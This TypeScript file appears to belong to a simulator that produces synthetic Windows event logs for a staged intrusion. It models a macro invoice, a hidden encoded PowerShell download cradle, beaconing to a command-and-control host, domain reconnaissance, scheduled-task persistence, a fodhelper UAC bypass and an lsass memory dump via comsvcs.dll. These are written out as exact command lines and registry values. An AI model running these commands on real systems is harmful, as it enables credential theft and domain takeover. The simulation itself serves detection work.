// The first story: an invoice by mail, a macro, a memory dump, two servers by service and WMI, and the keys of the domain.
import type { World } from '../world.ts';
import { accountName, domainAccount, type Logon } from '../windows/accounts.ts';
import type { Desk } from '../windows/desk.ts';
import { KINDS } from '../windows/event-kinds.ts';
import { utcTime, type Integrity, type Process, type WindowsMachine } from '../windows/machine.ts';
import { PROGRAMS, unknownProgram, type Program } from '../windows/programs.ts';
import { logoffEvent, logonEvents, shareFileEvent, subject } from '../windows/security.ts';
import { COMMAND_AND_CONTROL, DOWNLOAD_CRADLE, encoded, STAGER } from './attacker.ts';
import { found, quarantined } from './defender.ts';
import { moveByService } from './move-by-service.ts';
import { moveByWmi } from './move-by-wmi.ts';
import { stealDomainKeys } from './steal-domain-keys.ts';

const MINUTE = 60_000;

/** What the attacker holds while the story goes on. */
export interface Foothold {
  readonly desk: Desk;
  readonly machine: WindowsMachine;
  /** Beacon in the person's session. */
  readonly beacon: Process;
  /** Elevated shell on the first machine. */
  readonly elevated: Process;
  /** Account whose secret was in the dump. */
  readonly stolen: { readonly account: Logon['account'] };
}

/** Starts a program of the attacker's as a child of `parent`. */
export function run(
  machine: WindowsMachine,
  ts: number,
  parent: Process,
  program: Program,
  argument: string,
  integrity: Integrity = parent.integrity,
): Process {
  const commandLine = argument.startsWith('=') ? argument.slice(1) : `"${program.image}" ${argument}`.trimEnd();
  return machine.start({ ts, parent, program, commandLine, integrity, directory: 'C:\\Users\\Public\\' });
}

/** A console program that answers and ends. */
export function ask(machine: WindowsMachine, ts: number, parent: Process, program: Program, argument: string): Process {
  const process = run(machine, ts, parent, program, argument);
  machine.exit(process, ts + machine.random.between(150, 2500));
  return process;
}

/** A process asks its controller for orders once a minute until `until`. */
export function beaconFrom(machine: WindowsMachine, process: Process, from: number, until: number): void {
  machine.dnsQuery(process, from, COMMAND_AND_CONTROL.name, COMMAND_AND_CONTROL.ip);
  for (let ts = from + 40; ts < until; ts += MINUTE + machine.random.between(-4000, 4000))
    machine.connect(process, ts, COMMAND_AND_CONTROL);
}

/** Schedules the story so that it begins at `at` and the attacker still has his beacon at `until`. */
export function invoiceStory(world: World, at: number, until: number): void {
  const desk = world.deskOf('anna.berg');
  const { machine } = desk;
  let foothold: Foothold | undefined;
  const held = (): Foothold => {
    if (foothold === undefined) throw new Error('a scene needs the foothold of the first one');
    return foothold;
  };
  world.schedule({ at, play: () => (foothold = openDocument(world, desk, at, until)) });
  world.schedule({ at: at + 24 * MINUTE, play: () => persist(held(), at + 24 * MINUTE, until) });
  world.schedule({ at: at + 51 * MINUTE, play: () => dumpMemory(held(), at + 51 * MINUTE) });
  world.schedule({ at: at + 83 * MINUTE, play: () => moveByService(world, held(), at + 83 * MINUTE, until) });
  world.schedule({ at: at + 131 * MINUTE, play: () => moveByWmi(world, held(), at + 131 * MINUTE, until) });
  world.schedule({ at: at + 170 * MINUTE, play: () => stealDomainKeys(world, held(), at + 170 * MINUTE) });
  // Earlier that day the administrator had helped on this machine: that is why his secret was in its memory.
  const admin = domainAccount(machine.company, machine.company.admin);
  const helpAt = at - 50 * MINUTE;
  world.schedule({
    at: helpAt,
    play: () => {
      const logon = machine.newLogon(admin, 2);
      logonEvents(
        machine,
        helpAt,
        {
          logon,
          type: 10,
          package: 'Negotiate',
          fromIp: world.server('ADM01').machine.host.ip,
          workstation: machine.host.name,
          by: desk.booted.svchost.termService,
        },
        'privileged',
      );
      logoffEvent(machine, helpAt + 9 * MINUTE, logon, 10);
    },
  });
}

function openDocument(world: World, desk: Desk, at: number, until: number): Foothold {
  const { machine } = desk;
  const outlook = desk.app(PROGRAMS.outlook, at - 3000);
  const folder = 'C:\\Users\\anna.berg\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8Q2ZLKX1\\';
  const document = `${folder}Invoice_4711.docm`;
  machine.createFile(outlook, at, document);
  machine.emit(KINDS.fileStream, at + 10, {
    RuleName: '-',
    UtcTime: utcTime(at + 10),
    ProcessGuid: outlook.guid,
    ProcessId: String(outlook.pid),
    Image: outlook.program.image,
    TargetFilename: `${document}:Zone.Identifier`,
    CreationUtcTime: utcTime(at),
    Hash: unknownProgram(document, 'Invoice_4711.docm').hashes,
    Contents: '[ZoneTransfer]  ZoneId=3',
    User: accountName(desk.session.logon.account),
  });
  const word = run(machine, at + 1800, outlook, PROGRAMS.winword, `/n "${document}" /o ""`, 'Medium');
  machine.createFile(word, at + 2900, `${folder}~$voice_4711.docm`);
  machine.loadImage(
    word,
    at + 6200,
    {
      ...PROGRAMS.winword,
      image: 'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL',
      description: 'Visual Basic Design Time Environment',
      originalName: 'VBE7.DLL',
    },
    'Microsoft Corporation',
  );
  const cradle = run(
    machine,
    at + 41_000,
    word,
    PROGRAMS.powershell,
    `=powershell.exe -NoP -NonI -W Hidden -Enc ${encoded(DOWNLOAD_CRADLE)}`,
  );
  run(machine, at + 41_060, cradle, PROGRAMS.conhost, '=\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1');
  found(machine, at + 42_000, {
    threat: 'TrojanDownloader:O97M/Donoff.SA!MTB',
    threatId: 2_147_797_431,
    severity: 'Severe',
    category: 'Trojan Downloader',
    resources: [`containerfile:_${document}`, `file:_${document}->word/vbaProject.bin`],
    process: cradle,
  });
  machine.scriptBlock(cradle, at + 43_000, DOWNLOAD_CRADLE);
  machine.dnsQuery(cradle, at + 43_300, COMMAND_AND_CONTROL.name, COMMAND_AND_CONTROL.ip);
  machine.connect(cradle, at + 43_400, COMMAND_AND_CONTROL);
  machine.scriptBlock(cradle, at + 44_600, STAGER);
  beaconFrom(machine, cradle, at + 46_000, until);
  let ts = at + 4 * MINUTE;
  for (const [program, argument] of [
    [PROGRAMS.whoami, '=whoami /all'],
    [PROGRAMS.ipconfig, '=ipconfig /all'],
    [PROGRAMS.net, '=net group "Domain Admins" /domain'],
    [PROGRAMS.nltest, '=nltest /domain_trusts /all_trusts'],
    [PROGRAMS.tasklist, '=tasklist /v'],
  ] as const) {
    const shell = run(
      machine,
      (ts += machine.random.between(20_000, 90_000)),
      cradle,
      PROGRAMS.cmd,
      `="C:\\Windows\\system32\\cmd.exe" /c ${argument.slice(1)}`,
    );
    const child = ask(machine, ts + 90, shell, program, argument);
    if (program === PROGRAMS.net)
      ask(machine, ts + 180, child, PROGRAMS.net1, '=C:\\Windows\\system32\\net1 group "Domain Admins" /domain');
    machine.exit(shell, ts + 3200);
  }
  return {
    desk,
    machine,
    beacon: cradle,
    elevated: cradle,
    stolen: { account: domainAccount(world.company, world.company.admin) },
  };
}

const BEACON_FILE = 'C:\\Users\\anna.berg\\AppData\\Roaming\\OneSync\\onesync.exe';

/** A run key and a scheduled task keep the beacon over restarts. */
function persist({ desk, machine, beacon }: Foothold, at: number, until: number): void {
  const program = unknownProgram(BEACON_FILE, 'onesync.exe', 'OneSync Client', 'OneSync');
  const { logon } = desk.session;
  machine.createFile(beacon, at, BEACON_FILE);
  machine.setRegistry(
    beacon,
    at + 8000,
    `HKU\\${logon.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneSync`,
    BEACON_FILE,
  );
  const task = `/create /f /sc minute /mo 30 /tn "\\OneSync Update" /tr "${BEACON_FILE}"`;
  ask(machine, at + 21_000, beacon, PROGRAMS.schtasks, `="C:\\Windows\\system32\\schtasks.exe" ${task}`);
  machine.emit(KINDS.taskCreate, at + 21_400, {
    ...subject(logon),
    TaskName: '\\OneSync Update',
    TaskContent: `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo><Author>${accountName(logon.account)}</Author><URI>\\OneSync Update</URI></RegistrationInfo>\r\n  <Triggers><TimeTrigger><Repetition><Interval>PT30M</Interval></Repetition><Enabled>true</Enabled></TimeTrigger></Triggers>\r\n  <Actions Context="Author"><Exec><Command>${BEACON_FILE}</Command></Exec></Actions>\r\n</Task>`,
    ClientProcessStartKey: '0',
    ClientProcessId: '0',
    ParentProcessId: String(beacon.pid),
    RpcCallClientLocality: '0',
    FQDN: machine.host.fqdn,
  });
  machine.setRegistry(
    desk.booted.svchost.schedule,
    at + 21_500,
    'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\OneSync Update\\Id',
    `{${machine.random.uuid().toUpperCase()}}`,
  );
  const second = machine.start({
    ts: at + 30 * MINUTE,
    parent: desk.booted.svchost.schedule,
    program,
    commandLine: BEACON_FILE,
    logon,
    integrity: 'Medium',
    directory: 'C:\\Windows\\system32\\',
  });
  beaconFrom(machine, second, at + 30 * MINUTE + 2000, until);
}

/** Around UAC by fodhelper, then the memory of lsass by comsvcs.dll. */
function dumpMemory(foothold: Foothold, at: number): void {
  const { desk, machine, beacon } = foothold;
  const { logon } = desk.session;
  const command = `powershell.exe -NoP -W Hidden -Enc ${encoded(STAGER)}`;
  machine.setRegistry(
    beacon,
    at,
    `HKU\\${logon.account.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`,
    command,
  );
  machine.setRegistry(
    beacon,
    at + 60,
    `HKU\\${logon.account.sid}_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute`,
    '(Empty)',
  );
  const helper = run(machine, at + 1500, beacon, PROGRAMS.fodhelper, '="C:\\Windows\\system32\\fodhelper.exe"', 'High');
  const elevated = run(machine, at + 1900, helper, PROGRAMS.powershell, `=${command}`, 'High');
  machine.exit(helper, at + 2600);
  Object.assign(foothold, { elevated });
  const { lsass } = desk.booted;
  const dump = 'C:\\Windows\\Temp\\d1f.tmp';
  const shell = run(
    machine,
    at + 95_000,
    elevated,
    PROGRAMS.cmd,
    `="C:\\Windows\\system32\\cmd.exe" /c tasklist /fi "imagename eq lsass.exe"`,
  );
  ask(machine, at + 95_100, shell, PROGRAMS.tasklist, '=tasklist  /fi "imagename eq lsass.exe"');
  machine.exit(shell, at + 96_000);
  const dumper = run(
    machine,
    at + 128_000,
    elevated,
    PROGRAMS.rundll32,
    `="C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
  );
  machine.loadImage(
    dumper,
    at + 128_090,
    {
      ...PROGRAMS.rundll32,
      image: 'C:\\Windows\\System32\\dbgcore.dll',
      description: 'Windows Core Debugging Helpers',
      originalName: 'DBGCORE.DLL',
    },
    'Microsoft Windows',
  );
  machine.access(
    dumper,
    lsass,
    at + 128_140,
    '0x1FFFFF',
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d5a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+37a1f|C:\\Windows\\System32\\rundll32.exe+4b2d',
  );
  machine.createFile(dumper, at + 128_600, dump);
  const finding = {
    threat: 'Behavior:Win32/LsassDump.A!attk',
    threatId: 2_147_816_880,
    severity: 'High',
    category: 'Suspicious Behavior',
    resources: [`file:_${dump}`],
    process: dumper,
  } as const;
  found(machine, at + 129_000, finding);
  machine.exit(dumper, at + 131_000);
  machine.connect(elevated, at + 150_000, COMMAND_AND_CONTROL);
  machine.deleteFile(elevated, at + 162_000, dump);
  quarantined(machine, at + 170_000, finding);
}

/** The remote side of a network logon with the stolen account. */
export function logOnWithStolen(target: WindowsMachine, ts: number, { machine, stolen }: Foothold): Logon {
  const logon = target.newLogon(stolen.account, 0);
  target.emit(KINDS.ntlm, ts - 20, {
    PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0',
    TargetUserName: stolen.account.name,
    Workstation: machine.host.name,
    Status: '0x0',
  });
  logonEvents(
    target,
    ts,
    { logon, type: 3, package: 'NTLM', fromIp: machine.host.ip, workstation: machine.host.name },
    'privileged',
  );
  return logon;
}

/** A file written over ADMIN$ from the first machine. */
export function dropOverAdminShare(
  target: WindowsMachine,
  ts: number,
  foothold: Foothold,
  logon: Logon,
  name: string,
): void {
  const { machine, elevated } = foothold;
  machine.connect(elevated, ts - 40, { ip: target.host.ip, port: 445, name: target.host.fqdn });
  shareFileEvent(target, ts, logon, 'ADMIN$', 'C:\\Windows', name, machine.host.ip, '0x2');
  target.createFile(target.system, ts + 60, `C:\\Windows\\${name}`);
}
